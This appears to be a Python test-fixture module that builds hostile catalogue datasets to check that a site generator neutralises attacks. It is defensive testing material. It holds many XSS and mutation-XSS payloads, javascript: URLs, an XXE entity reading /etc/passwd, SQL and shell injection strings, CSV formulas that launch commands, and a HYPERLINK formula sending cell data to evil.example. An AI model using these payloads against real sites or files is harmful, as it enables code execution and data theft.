"""A catalogue written by somebody who means harm: what would run, leave its place or blind a reader, in every field.

Whatever runs gives itself away: it sets `window.pwned`, opens a dialog, leaves the page or asks `EVIL` for something.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

from tests.acceptance.projects import write_lines, write_project

Raw = dict[str, Any]

EVIL = "evil.example"
RUN = "window.pwned=1;alert(1)"

# HTML and Markdown that runs something, loads something, or changes the page around it.
MARKUP = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title></textarea></style></noscript></template></select></table></p></div></main><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"\"'><img src=x onerror={RUN}>",
    f"' autofocus tabindex=1 onfocus={RUN} x='",
    f'" autofocus tabindex=1 onfocus={RUN} x="',
    f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script>{RUN}</script><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><set attributeName=href to=javascript:{RUN}><use href='data:image/svg+xml,<svg onload={RUN}>'/></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi><maction actiontype=statusline#{EVIL} "
    f"xlink:href='javascript:{RUN}'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<title><a title='</title><img src=x onerror={RUN}>'>",
    f"<textarea><a title='</textarea><img src=x onerror={RUN}>'>",
    f"<style><a title='</style><img src=x onerror={RUN}>'>",
    f"<xmp><a title='</xmp><img src=x onerror={RUN}>'>",
    f"<select><option><style></option></select><img src=x onerror={RUN}></style>",
    f"<template><script>{RUN}</script></template><plaintext>",
    f"<iframe src='javascript:{RUN}'></iframe><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='javascript:{RUN}'></object><embed src='https://{EVIL}/x.swf'><applet code=x>",
    f"<form action='https://{EVIL}/' id=search><input name=q autofocus onfocus={RUN}><button "
    f"formaction='javascript:{RUN}'>",
    f"<base href='https://{EVIL}/'><meta http-equiv=refresh content='0;url=https://{EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'><link rel=stylesheet href='https://{EVIL}/x.css'>",
    f"<style>@import 'https://{EVIL}/x.css';body{{display:none}}</style>",
    f"<p style='position:fixed;inset:0;background:url(https://{EVIL}/x)' onclick={RUN} class=skip id=content>x</p>",
    f"<img srcset='https://{EVIL}/x 1x' src='https://{EVIL}/y'><video poster='https://{EVIL}/z' "
    f"autoplay><source onerror={RUN}>",
    f"<picture><source srcset='https://{EVIL}/s'><img src='https://{EVIL}/p'></picture><audio "
    f"src='https://{EVIL}/a' onerror={RUN}>",
    "<a id=browse name=status></a><form id=q name=getElementById></form><img name=body id=documentElement>",
    "<a id=defaultView name=customElements href='cid:x'></a><a id=location></a><input id=attributes name=children>",
    f"<details open ontoggle={RUN}><summary>x</summary></details><marquee onstart={RUN}>x</marquee>",
    f"<catalogue-search data-index='https://{EVIL}/index.json' data-input=q></catalogue-search>",
    f"<button popovertarget=menu popovertargetaction=show onclick={RUN}>x</button><dialog open>x</dialog>",
    f"<!--><img src=x onerror={RUN}>--><!-- --!><img src=x onerror={RUN}>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"]]><script>{RUN}</script><?xml version='1.0'?><?php echo 1 ?><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    f"&#x3c;script&#x3e;{RUN}&#x3c;/script&#x3e;&lt;img src=x onerror={RUN}&gt;&amp;lt;script&amp;gt;",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<IMG\x0csrc=x\x0conerror={RUN}><a\x0bhref=javascript:{RUN}>x</a><img/src=x/onerror={RUN}>",
    f"<img src=x onerror\x00={RUN}><\x00script>{RUN}</\x00script>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e \u2039script\u203a",
    f"```\n<script>{RUN}</script>\n```\n\n    <script>{RUN}</script>\n\n`<img src=x onerror={RUN}>`",
    f"![x](https://{EVIL}/i.png \"x' onerror={RUN} y='\") ![x' onerror={RUN}](https://{EVIL}/j.png)",
    f"[x](https://example.org/\"onmouseover={RUN}//) <https://example.org/\"onmouseover={RUN}>",
    f"[a]: javascript:{RUN}\n[b]: https://example.org/ \"' onmouseover={RUN}\"\n\n[x][a] [y][b] [a] [b]",
    "{{ 7*7 }}{{ config }}{% include '/etc/passwd' %}{# x #}{{ ''.__class__.__mro__ }} ${7*7} #{7*7} <%= "
    "7*7 %> {count} %s %(x)s",
    f"@import url(https://{EVIL}/);}} body {{ background: url(https://{EVIL}/x) }}",
    "\x1b]0;pwned\x07\x1b[31mrouge\x1b[2J\x1b[1;1H\x9b31m\r\x08\x08 effacé",
    "\u202egnp.exe\u202c \u2066\u2067\u2068 \u202a\u202b\u202d jamais fermés \u061c\u200e\u200f",
    "nul\x00 \x01\x02\x03klzzwxh:0000\x03 \x02amp\x03 \ud800 \udfff \ufffe \uffff \ufdd0 \U0001fffe \x85 "
    "\u2028 \u2029 \ufeff",
    "=cmd|'/C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=HYPERLINK(\"https://evil.example/?\"&A1)", "=1+1;=2+2,\"=3+3\"\n=4+4", "＝1+1",
    "'; DROP TABLE x; --", "; rm -rf / #`id`$(id)|id", "O'Reilly & \"fils\" <sa>",
    "Z" * 300, "\u0301" * 300 + "zalgo" + "e\u0301\u0302\u0303" * 60, "\u3164" * 20, "a" + "\u200b" * 50 + "b",
    "👨\u200d👩\u200d👧 \U000e0041\U000e0042 ﷽ \U0001f1eb\U0001f1f7",
    "Les «\u00a0mots\u00a0» usuels\u202f; l’été à Œuilly",
]  # fmt: skip

# Addresses that run something, or lead elsewhere than they say.
ADDRESSES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" \x01javascript:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}",
    f"javascript\x00:{RUN}", f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}", f"\u200bjavascript:{RUN}",
    f"javascript://example.org/%0a{RUN}", f"view-source:javascript:{RUN}", f"feed:javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", f"data:text/html;base64,PHNjcmlwdD4=#{EVIL}", "vbscript:msgbox(1)",
    "file:///etc/passwd", "\\\\evil.example\\x", "//evil.example/x", "/\\evil.example/x", "https:\\\\evil.example/x",
    "https:evil.example/x", "http:///evil.example", "https://good.example\\@evil.example/",
    "blob:https://evil.example/x",
    "https://user:geheim@good.example/x", "https://good.example%2f@evil.example/x", "https://good.example:80:80/",
    "https://good.example/\"onmouseover=alert(1) x=", "https://good.example/'><script>window.pwned=1</script>",
    "https://good.example/\r\nSet-Cookie: x=1", "https://good.example/\u202egnp", "https://[::1",
    "https://g\u2100d.example/",
    "https://good.example/" + "a" * 3000, "https://good.example/" + "a" * 100_000, "https://xn--80ak6aa92e.com/",
    "mailto:x@good.example?cc=all@evil.example&body=%0d%0a", "mailto:x@good.example\r\nBcc: y@evil.example",
    "tel:+33", "intent://x#Intent;scheme=http;end", "ms-word:ofe|u|https://evil.example/x.docm", "about:blank",
    "ftp://u:p@good.example/x", "https://good.example/{{7*7}}/%s/{count}", "../../../../etc/passwd", "..\\..\\x",
    "#", "?",
    ".", "", " ", "https://", "https://.", "https://good.example./..//../x", "HTTPS://GOOD.EXAMPLE/É?é#é", "x:y",
]  # fmt: skip

# Names and ids that would leave their folder, not exist on some system, or take the place of another.
NAMES = [
    "..", ".", "../../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "a/b", "a\\b", "a:b", "CON", "con",
    "con.txt", "nul",
    "AUX", "com1", "COM¹", "lpt9", "prn.json", "x.", "x ", " x", "x...", ".htaccess", "_redirects", ".git", "~", "-rf",
    "page", "sort", "resource", "index.html", "index", "download", "dataset", "search", "assets", "en", "fr",
    "404.html", "title",
    "modified", "2", "page/2", "Budget", "budget", "BUDGET", "bu\u0301dget", "b\u00fadget", "\u212bngstrom", "ångstrom",
    "\u210budget", "ﬁn", "fin", "Straße", "strasse", "STRASSE", "İstanbul", "istanbul", "ı", "i", "K", "\u212a",
    "%2e%2e", "%00", "a%2fb", "x\x00y", "xy", "x\u202ey", "a" * 300, "a" * 301, "é" * 300, "東" * 100, "東" * 99 + "京",
    "𠮷" * 100, "\ud800", "?", "*", "\"", "<x>", "|", "\n", "", " ", "null", "undefined", "__proto__", "constructor",
    "a#b", "a?b", "a&b", "a;b", "a=b", "{{7*7}}", "👨\u200d👩\u200d👧", "\u0301", "\u3164", "c", "C", "C++", "c#", "c-",
]  # fmt: skip

# Files beside the dump, as Linux takes them.
FILES = [
    "x\u202ey.csv", "CON", "con.csv", "COM¹.txt", "x.", "=1+1.csv", "ﬁn.CSV", "𠮷" * 60 + ".csv",
    "e\u0301te\u0301.csv", "<b>.html",
    "a" * 250, "index.html", " x ", "a\\b.csv", "x\ny.txt",
]  # fmt: skip


def deep(depth: int, inside: str = "1") -> str:
    return "[" * depth + inside + "]" * depth


def packages() -> Iterator[Raw]:
    """Each text, address and name in every field, one dataset each."""
    for number, text in enumerate(MARKUP):
        yield _of_text(number, text)
    for number, address in enumerate(ADDRESSES):
        yield _of_address(number, address)
    for number, name in enumerate(NAMES):
        yield _of_name(number, name)
    yield from _of_strange_types()


def _of_text(number: int, text: str) -> Raw:
    shape = _SHAPES[number % len(_SHAPES)]
    owner = {
        "id": f"org-{number % 8}",
        "name": f"org-{number % 8}",
        "title": text,
        "description": text,
        "image_url": text,
        "image_display_url": text,
        "url": text,
    }
    file = {
        "name": shape(text),
        "description": text,
        "format": text[:24],
        "mimetype": text,
        "url": text,
        "schema": text,
    }
    return {
        "id": f"text-{number}",
        "name": f"texte-{number}",
        "title": text,
        "title_translated": {"fr": text, "en": f"{text} en"} if number % 3 == 0 else None,
        "notes": text,
        "notes_translated": shape(text) if number % 3 == 1 else None,
        "organization": owner,
        "groups": [{"id": f"group-{number % 8}", "name": f"group-{number % 8}", "title": text, "description": text}],
        "tags": [{"name": text}, {"name": f"avant {text}"}, {"name": "commun"}],
        "license_id": text,
        "license_title": text,
        "license_url": text,
        "frequency": text,
        "granularity": text,
        "spatial": text,
        "spatial_text": text,
        "version": text,
        "url": text,
        "maintainer": text,
        "maintainer_email": f"{text[:20]}@good.example",
        "temporal": text,
        "issued": text,
        "metadata_modified": f"2026-03-{number % 28 + 1:02}T00:00:00",
        "extras": [{"key": "montre", "value": text}, {"key": text, "value": text}],
        "resources": [
            {"id": f"r{number}", **file},
            {"id": text, **file, "restricted": '{"level": "registered"}'},
            {"id": f"s{number}", **file, "url": f"https://good.example/{number}.csv", "name": f"{text} {number}"},
        ],
    }


_SHAPES: tuple[Callable[[str], object], ...] = (
    lambda text: text,
    lambda text: {"fr": text, "en": text},
    lambda text: json.dumps({"fr": text, "en": text}),
    lambda text: {text: text, "fr": text},
    lambda text: [text, text],
)


def _of_address(number: int, address: str) -> Raw:
    """Also as links in notes: Markdown's, HTML's and bare ones."""
    notes = (
        f"[lien]({address}) [lien](<{address}>) <{address}> {address}\n\n[a]: {address}\n\n[a] ![i]({address})\n\n"
        f"<a href='{address}'>x</a> <a href=\"{address}\" xlink:href=\"{address}\">y</a> <img src='{address}'>"
        f"<area href='{address}'><blockquote cite='{address}'>z</blockquote><form action='{address}'><button>t</button>"
    )
    return {
        "id": f"address-{number}",
        "name": f"adresse-{number}",
        "title": f"Adresse {number}",
        "notes": notes[:20_000],
        "organization": {
            "id": f"site-{number}", "name": f"site-{number}", "title": "Site", "url": address, "image_url": address,
            "description": f"[x]({address[:500]})",
        },
        "license_id": "x",
        "license_url": address,
        "url": address,
        "resources": [{"id": "r", "name": "Lien", "url": address, "schema": address, "cache_url": address}],
    }  # fmt: skip


def _of_name(number: int, name: str) -> Raw:
    return {
        "id": name if number % 2 else f"name-{number}",
        "name": name,
        "title": f"Nom {number}",
        "organization": {"id": f"nom-{name}", "name": name, "title": f"Nom {number}", "image_url": name},
        "groups": [{"id": f"nom-{name}", "name": name, "title": f"Nom {number}"}],
        "tags": [{"name": name}],
        "resources": [
            {"id": name, "name": name, "url": name},
            {"id": name.upper(), "name": name, "url": f"https://good.example/{number}"},
            {"id": f"{name}.", "url": f"files/{name}"},
            *({"id": f"f{n}", "url": f"files/{file}"} for n, file in enumerate(FILES) if number == 0),
        ],
    }


def _of_strange_types() -> Iterator[Raw]:
    empty: list[object] = [None, [], {}, [[]], [{}], {"a": {}}, "[]", "{"]
    values = [*empty, True, 7, -1e308, 10**30, deep(900), deep(10_000), {"fr": deep(200)}]
    keys = "title notes organization groups tags resources extras license_id spatial temporal url version"
    for number, value in enumerate(values):
        yield {"id": f"type-{number}", "name": f"type-{number}", **dict.fromkeys(keys.split(), value)}


def twins(pairs: list[tuple[str, str]]) -> list[Raw]:
    """Two datasets, organisations, tags and resources each, for pairs of names that were made to be confused."""
    return [
        {
            "id": f"{number} {name}",
            "name": name,
            "title": name,
            "metadata_created": f"2020-01-0{index + 1}",
            "tags": [{"name": name}],
            "organization": {"id": f"o {number} {name}", "name": name},
            "resources": [{"id": each, "name": each, "url": "https://good.example/"} for each in pair],
        }
        for number, pair in enumerate(pairs)
        for index, name in enumerate(pair)
    ]


def giants() -> Iterator[Raw]:
    """Datasets with too much of one thing each."""
    plain = {"title": "Géant", "tags": [{"name": "commun"}], "resources": [{"id": "r", "url": "https://good.example/"}]}
    for number, more in enumerate(_giants()):
        yield {**plain, "id": f"giant-{number}", "name": f"geant-{number}", **more}


def _giants() -> Iterator[Raw]:
    yield {
        "title": "<b>titre " * 12_000,
        "version": "9" * 100_000,
        "license_title": "l" * 100_000,
        "license_id": "x" * 10**5,
    }
    yield {"notes": "<b>gras **gras** [x](y) `z` & " * 34_000}
    yield {"notes": " " * 300_000 + "x" + "\t" * 300_000 + "\x00", "title": "a\x00" + " " * 300_000 + "\tb"}
    yield {"tags": [{"name": f"mot {number}"} for number in range(10_000)]}
    yield {"tags": ",".join(f"autre {number}" for number in range(10_000)), "keywords": {"fr": ["x" * 100] * 10_000}}
    yield {
        "resources": [
            {"id": f"r-{n}", "name": f"Fichier {n}", "url": f"https://good.example/{n}"} for n in range(1_000)
        ]
    }
    yield {
        "title_translated": {f"{a}{b}": "mot" for a in map(chr, range(97, 123)) for b in "abcdefghijklmnopqrstuvwxyz"}
    }
    yield {"title_translated": {f"aa-{number}": "mot" for number in range(1_000)}, "notes_translated": deep(10_000)}
    yield {"extras": [{"key": f"k{number}", "value": "v" * 100} for number in range(20_000)]}
    yield {"groups": [{"id": f"g-{number}", "name": f"g-{number}"} for number in range(1_000)]}
    yield {"name": "n" * 100_000, "id": "i" * 100_000, "url": "https://good.example/" + "u" * 1_000_000}
    yield {"resources": [{"id": "i" * 10**5, "name": "n" * 10**5, "description": "d" * 10**6, "format": "f" * 10**5}]}
    yield {
        "organization": {"id": "o" * 10**5, "name": "o" * 10**5, "title": "t" * 10**5, "description": "# d\n" * 10**5}
    }
    yield {
        "notes": "http://good.example/(" + ")" * 90_000,
        "maintainer": "a@" + "." * 100_000 + "@",
        "temporal": "2" * 10**6,
    }
    zigzag = [[x * 1e-4, 44 + (x % 2) * x * 1e-6] for x in range(199_999)]
    yield {"spatial": json.dumps({"type": "Polygon", "coordinates": [[*zigzag, [0, 45], [0, 44]]]})}
    boxes = [[[[n * 1e-5, 44], [n * 1e-5 + 1, 44], [n * 1e-5, 45], [n * 1e-5, 44]]] for n in range(20_000)]
    yield {"spatial": json.dumps({"type": "MultiPolygon", "coordinates": boxes})}
    yield {
        "spatial": {"type": "GeometryCollection", "geometries": [{"type": "Point", "coordinates": [0, 0]}] * 100_000}
    }


def write(folder: Path, languages: Sequence[str] = ("fr", "en")) -> Path:
    """A project over the catalogue; the real nesting of one dataset goes deeper than any parser."""
    project = write_project(
        folder,
        languages=languages,
        partner='[show]\ncontacts = true\nextras = ["montre"]\n'
        '[searches.tout]\ntitle = "Tout"\nfilters = { license = ["none"] }\n',
    )
    (project / "files").mkdir()
    for name in FILES:
        (project / "files" / name).write_text('"a"\n', encoding="utf-8")
    file = project / "datasets.jsonl"
    write_lines(file, [])
    with file.open("a", encoding="ascii") as lines:  # json's own escapes: lone surrogates are among the texts
        for package in packages():
            lines.write(json.dumps(package) + "\n")
        for number, depth in enumerate((90, 900, 990, 1_010, 10_000)):
            lines.write(f'{{"id": "deep-{number}", "name": "profond-{number}", "extras": {deep(depth)}}}\n')
    return project
